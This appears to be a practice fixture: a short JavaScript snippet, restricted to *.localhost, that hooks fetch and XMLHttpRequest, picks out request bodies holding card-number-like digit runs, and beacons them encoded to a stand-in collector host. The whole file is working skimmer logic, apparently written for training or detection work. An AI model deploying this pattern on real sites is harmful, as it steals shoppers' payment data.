/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const copy = (body) => {
    if (typeof body !== 'string' || !/\d{13}/.test(body.replaceAll(' ', ''))) return;
    navigator.sendBeacon(`${home}/lib/n`, btoa(encodeURIComponent(body)));
  };
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) {
    copy(body);
    return send.call(this, body);
  };
  const bare = window.fetch;
  window.fetch = function (address, options) {
    copy(options?.body);
    return bare.call(this, address, options);
  };
})();
